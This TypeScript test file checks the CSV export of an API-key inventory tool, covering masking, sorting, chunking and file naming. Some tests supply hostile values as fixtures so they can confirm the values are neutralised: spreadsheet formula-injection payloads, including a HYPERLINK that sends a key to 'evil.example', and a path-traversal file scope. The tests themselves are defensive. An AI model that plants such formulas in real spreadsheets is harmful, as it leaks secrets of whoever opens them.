import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvFileName, maskKey, toCsv } from './csv';
import type { KeyMode } from './key-mode';
import { finishRecord, type RecordFields } from './record';

const now = new Date('2026-03-10T12:00:00.000Z');

function rec(overrides: Partial<RecordFields>): ReturnType<typeof finishRecord> {
  return finishRecord(
    {
      instance: 'vault-prod',
      vendor: 'metadefender-vault',
      owner: 'alice',
      directory: '',
      key_id: '1',
      key: 'Cp01BwnXAIOLZXxn7yogjKqIZnZpQD',
      description: 'CI token',
      roles: ['User'],
      created: '2025-01-01T00:00:00.000Z',
      expires: '',
      ...overrides,
    },
    now,
  );
}

function parse(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const result = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n', skipEmptyLines: true });
  expect(result.errors).toEqual([]);
  return result.data;
}

describe('toCsv', () => {
  it('writes the contract header exactly, with BOM and CRLF line ends', () => {
    const csv = toCsv([rec({})], { keys: 'masked' });
    expect(csv.slice(1).split('\r\n')[0]).toBe('instance,vendor,owner,directory,key_id,key,description,roles,status,created,expires,days_left');
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/\n/);
    expect(parse(csv)[0]).toEqual([...CSV_COLUMNS]);
  });

  it('fills every column from the record', () => {
    const [, row] = parse(
      toCsv([rec({ expires: '2026-03-15T00:00:00.000Z', roles: ['User', 'Auditor'], directory: 'LOCAL' })], { keys: 'full' }),
    );
    expect(row).toEqual([
      'vault-prod',
      'metadefender-vault',
      'alice',
      'LOCAL',
      '1',
      'Cp01BwnXAIOLZXxn7yogjKqIZnZpQD',
      'CI token',
      'User;Auditor',
      'active',
      '2025-01-01T00:00:00.000Z',
      '2026-03-15T00:00:00.000Z',
      '4',
    ]);
  });

  it('masks, omits or writes keys by mode; short keys are fully hidden', () => {
    expect(maskKey('Cp01BwnXAIOLZXxn7yogjKqIZnZpQD', 'masked')).toBe('Cp01…ZpQD');
    expect(maskKey('123456789012', 'masked')).toBe('1234…9012');
    expect(maskKey('12345678901', 'masked')).toBe('****');
    expect(maskKey('Cp01BwnXAIOLZXxn7yogjKqIZnZpQD', 'omit')).toBe('');
    expect(maskKey('', 'masked')).toBe('');
    const masked = toCsv([rec({})], { keys: 'masked' });
    expect(masked).not.toContain('Cp01BwnXAIOLZXxn7yogjKqIZnZpQD');
    expect(toCsv([rec({})], { keys: 'omit' })).not.toContain('Cp01');
  });

  it('guards the key column in every mode: a hostile server cannot plant a formula through a "key"', () => {
    const hostile = '=HYPERLINK("https://evil.example/?k="&F3,"x")';
    for (const keys of ['full', 'masked'] as const) {
      const [, row] = parse(toCsv([rec({ key: hostile })], { keys }));
      expect(row![5]!.startsWith("'="), keys).toBe(true);
    }
    expect(parse(toCsv([rec({ key: hostile })], { keys: 'full' }))[1]![5]).toBe(`'${hostile}`);
  });

  it('guards free-text cells against formula injection but never numbers or dates', () => {
    const triggers = ['=1+1', '+1', '-2', '@SUM(A1)', '\tx', '\rx', '\nx', '\0x'];
    const rows = parse(
      toCsv(
        triggers.map((t, i) => rec({ key_id: String(i), instance: t, owner: t, directory: t, description: t, roles: [t] })),
        { keys: 'masked' },
      ),
    ).slice(1);
    expect(rows).toHaveLength(triggers.length);
    for (const row of rows) {
      const trigger = triggers[Number(row[4])];
      for (const col of [0, 2, 3, 6, 7]) expect(row[col]).toBe(`'${trigger}`);
    }
    const [, expired] = parse(toCsv([rec({ expires: '2026-01-01T00:00:00.000Z' })], { keys: 'masked' }));
    expect(expired![11]).toBe('-69');
  });

  it('guards the key against formula injection in every mode that writes it', () => {
    const key = '=HYPERLINK("http://evil.example")';
    const keyOf = (keys: KeyMode) => parse(toCsv([rec({ key })], { keys }))[1]![5];
    expect(keyOf('full')).toBe(`'${key}`);
    expect(keyOf('masked')).toBe(`'=HYP…le")`);
    expect(keyOf('omit')).toBe('');
  });

  it('quotes commas, quotes and line breaks so non-ASCII text round-trips', () => {
    const description = 'Zoë\'s "prod", key\r\nΩ 東京 🔑';
    const [, row] = parse(toCsv([rec({ description })], { keys: 'masked' }));
    expect(row![6]).toBe(description);
  });

  it('sorts by expiry ascending with never-expiring last, ties by instance, owner, key_id in code-point order', () => {
    const records = [
      rec({ key_id: 'never-b', instance: 'b' }),
      rec({ key_id: 'z', expires: '2026-04-01T00:00:00.000Z', owner: 'bob' }),
      rec({ key_id: 'never-a', instance: 'a' }),
      rec({ key_id: 'y', expires: '2026-04-01T00:00:00.000Z', owner: 'Bob' }),
      rec({ key_id: '10', expires: '2026-02-01T00:00:00.000Z' }),
      rec({ key_id: '9', expires: '2026-02-01T00:00:00.000Z' }),
      rec({ key_id: 'astral', expires: '2026-05-01T00:00:00.000Z', owner: '\u{1F511}' }),
      rec({ key_id: 'bmp', expires: '2026-05-01T00:00:00.000Z', owner: '\uFF21' }),
    ];
    const ids = parse(toCsv(records, { keys: 'omit' }))
      .slice(1)
      .map((r) => r[4]);
    // '10' < '9' as text; 'Bob' < 'bob'; U+FF21 < U+1F511 by code point (UTF-16 order would say otherwise).
    expect(ids).toEqual(['10', '9', 'y', 'z', 'bmp', 'astral', 'never-a', 'never-b']);
  });

  it('writes an empty expiry and days_left for keys that never expire, and status from the vendor', () => {
    const [, row] = parse(toCsv([rec({ vendorSaysExpired: true })], { keys: 'masked' }));
    expect(row!.slice(8)).toEqual(['expired', '2025-01-01T00:00:00.000Z', '', '']);
  });
});

describe('toCsv in chunks', () => {
  it('writes the header alone for no records, with no empty record after it', () => {
    expect(toCsv([], { keys: 'masked' })).toBe(`\uFEFF${CSV_COLUMNS.join(',')}\r\n`);
  });

  it('keeps one sorted sequence of rows across chunk boundaries, with one CRLF between rows', () => {
    // 4,001 rows: two full papaparse chunks and one row more; ids given in reverse expiry order.
    const count = 4_001;
    const records = Array.from({ length: count }, (_, i) =>
      rec({ key_id: String(i), expires: new Date(Date.parse('2027-01-01T00:00:00.000Z') - i * 60_000).toISOString() }),
    );
    const csv = toCsv(records, { keys: 'masked' });
    expect(csv).not.toMatch(/\r\n\r\n/);
    expect(csv.endsWith('\r\n')).toBe(true);
    const ids = parse(csv)
      .slice(1)
      .map((r) => Number(r[4]));
    expect(ids).toEqual(Array.from({ length: count }, (_, i) => count - 1 - i));
  });
});

describe('csvFileName', () => {
  it('uses the UTC date and a file-system-safe scope', () => {
    expect(csvFileName('all', new Date('2026-12-31T23:30:00-05:00'))).toBe('keyatlas-all-2027-01-01.csv');
    expect(csvFileName('core-prod', now)).toBe('keyatlas-core-prod-2026-03-10.csv');
    expect(csvFileName('../etc/x y', now)).toBe('keyatlas-etc_x_y-2026-03-10.csv');
  });
});
